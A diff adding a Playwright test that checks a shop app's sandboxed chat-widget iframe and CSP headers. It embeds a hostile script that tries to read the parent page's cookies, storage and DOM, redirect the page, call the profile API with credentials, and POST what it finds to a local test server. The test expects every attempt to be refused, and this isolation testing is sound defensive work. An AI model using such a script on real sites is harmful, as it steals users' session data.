@@ -1,0 +1,150 @@
+import type { Browser, Page } from '@playwright/test'
+import { createServer, type Server } from 'node:http'
+import { expect, logIn, signUp, test } from './shop.ts'
+
+/** A chat of somebody else, and one that means harm, in its frame: it gets nothing of the session and leads nowhere. */
+
+/** Tries everything that it must not be able to do, and tells its own server what came of it. */
+const hostile = (own: string) => `
+  const found = {}
+  const attempt = (name, act) => { try { found[name] = String(act()) } catch (error) { found[name] = 'refused ' + error.name } }
+  attempt('own storage', () => localStorage.getItem('marker'))
+  attempt('storage of the page', () => JSON.stringify(parent.localStorage))
+  attempt('cookies of the page', () => parent.document.cookie)
+  attempt('document of the page', () => parent.document.body.innerHTML)
+  attempt('navigation of the page', () => { top.location.href = '${own}/away'; return 'asked' })
+  const api = fetch(new URL('/api/profile', document.referrer || location.ancestorOrigins[0]).href, { credentials: 'include' })
+    .then(async (answer) => 'answered ' + answer.status, () => 'refused')
+  const elsewhere = fetch('${own.replace('127.0.0.1', 'localhost')}/elsewhere').then(() => 'reached', () => 'refused')
+  Promise.all([api, elsewhere]).then(([api, elsewhere]) =>
+    fetch('${own}/report', { method: 'POST', body: JSON.stringify({ ...found, api, elsewhere }) }))
+`
+
+interface Hostile {
+  address: string
+  reports: Record<string, string>[]
+  close(): Promise<void>
+}
+
+/** A server of somebody else's, with a script and with a page of its own. */
+async function openHostile(): Promise<Hostile> {
+  const reports: Record<string, string>[] = []
+  const server: Server = createServer((request, response) => {
+    const own = `http://${request.headers.host!.replace('localhost', '127.0.0.1')}`
+    response.setHeader('access-control-allow-origin', '*')
+    if (request.url === '/report') {
+      let body = ''
+      request.on('data', (chunk) => (body += String(chunk)))
+      request.on('end', () => {
+        reports.push(JSON.parse(body) as Record<string, string>)
+        response.end()
+      })
+    } else if (request.url === '/w.js') {
+      response
+        .setHeader('content-type', 'text/javascript')
+        .end(`document.body.append('The widget runs');${hostile(own)}`)
+    } else if (request.url?.startsWith('/widget'))
+      response
+        .setHeader('content-type', 'text/html')
+        .end(`<!doctype html><title>Chat</title><body>The widget runs<script>${hostile(own)}</script>`)
+    else response.setHeader('content-type', 'text/html').end('<title>Away</title>')
+  })
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+  const { port } = server.address() as { port: number }
+  return {
+    address: `http://127.0.0.1:${port}`,
+    reports,
+    close: () => new Promise((done) => server.close(() => done())),
+  }
+}
+
+/** A page whose console is not looked at: what a hostile script is refused is told there. */
+async function visit(browser: Browser, address: string) {
+  const context = await browser.newContext({ baseURL: address, locale: 'en-GB' })
+  return context.newPage()
+}
+
+/** Chooses a widget as the settings screen does, and waits until the pages allow its frame. */
+async function choose(admin: Page, widget: object, allowed: string | null) {
+  const status = await admin.evaluate(async (value) => {
+    const key = Object.keys(localStorage).find((name) =>
+      localStorage.getItem(name)!.includes('access_token'),
+    )!
+    const { access_token } = JSON.parse(localStorage.getItem(key)!) as { access_token: string }
+    const answer = await fetch('/api/admin/settings', {
+      method: 'PATCH',
+      headers: { authorization: `Bearer ${access_token}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ values: { 'chat.widget': value } }),
+    })
+    return answer.status
+  }, widget)
+  expect(status).toBe(200)
+  await expect
+    .poll(async () => {
+      const { headers } = await admin.evaluate(async () => {
+        const answer = await fetch('/dashboard/livechat', { cache: 'no-store' })
+        return { headers: answer.headers.get('content-security-policy') ?? '' }
+      })
+      return /frame-src ([^;]+)/.exec(headers)?.[1] ?? null
+    })
+    .toBe(allowed)
+}
+
+test('a widget reaches nothing outside of its frame, be it a script or a hosted page', async ({
+  shop,
+  browser,
+}) => {
+  test.slow()
+  const elsewhere = await openHostile()
+  const admin = await visit(browser, shop.address)
+  await logIn(admin, shop.admin)
+  await expect(admin).toHaveURL(/\/admin$/)
+  const page = await visit(browser, shop.address)
+  await signUp(page, { name: 'Saida Omari', email: 'widget@example.com' })
+  await expect(page).toHaveURL(/\/dashboard$/)
+
+  const widgets = [
+    [{ provider: 'script', address: `${elsewhere.address}/w.js` }, "'self'"],
+    [{ provider: 'chatwoot', address: elsewhere.address, websiteToken: 'T1' }, elsewhere.address],
+  ] as const
+  for (const [widget, allowed] of widgets) {
+    await choose(admin, widget, allowed)
+    await page.goto('/dashboard/livechat?about=Website Design - Landing Page')
+    await expect(page.frameLocator('iframe').getByText('The widget runs')).toBeVisible()
+    await expect(page.getByText('About: Website Design - Landing Page')).toBeVisible()
+    await expect.poll(() => elsewhere.reports.length).toBe(1)
+    const [report] = elsewhere.reports.splice(0)
+    expect(report).toMatchObject({
+      'storage of the page': 'refused SecurityError',
+      'cookies of the page': 'refused SecurityError',
+      'document of the page': 'refused SecurityError',
+      api: 'refused',
+    })
+    // A script has no storage at all, and reaches its own server alone; a hosted page has its own.
+    if (widget.provider === 'script')
+      expect(report).toMatchObject({ 'own storage': 'refused SecurityError', elsewhere: 'refused' })
+    else expect(report).toMatchObject({ 'own storage': 'null' })
+    // The attempt to lead the page away came to nothing: the page stands, and its session with it.
+    await expect(page).toHaveURL(/\/dashboard\/livechat/)
+    await expect(page.getByText('Hello, Saida Omari')).toBeVisible()
+  }
+
+  // Opened by itself, the document around a script has no origin either, and nobody else may frame it.
+  await choose(admin, { provider: 'script', address: `${elsewhere.address}/w.js` }, "'self'")
+  const headers = await admin.evaluate(async () =>
+    Object.fromEntries((await fetch('/chat-frame')).headers.entries()),
+  )
+  expect(headers['content-security-policy']).toMatch(/^sandbox allow-scripts allow-forms allow-popups;/)
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'self'")
+  expect(headers['content-security-policy']).toContain(`script-src ${elsewhere.address};`)
+
+  // Without a widget the product's own chat is there again, and no page may frame anything.
+  await choose(admin, { provider: 'none' }, null)
+  expect(await admin.evaluate(async () => (await fetch('/chat-frame')).status)).toBe(404)
+  await page.goto('/dashboard/livechat')
+  await expect(page.getByText('How can we help you?')).toBeVisible()
+  await expect(page.locator('iframe')).toHaveCount(0)
+  await page.context().close()
+  await admin.context().close()
+  await elsewhere.close()
+})
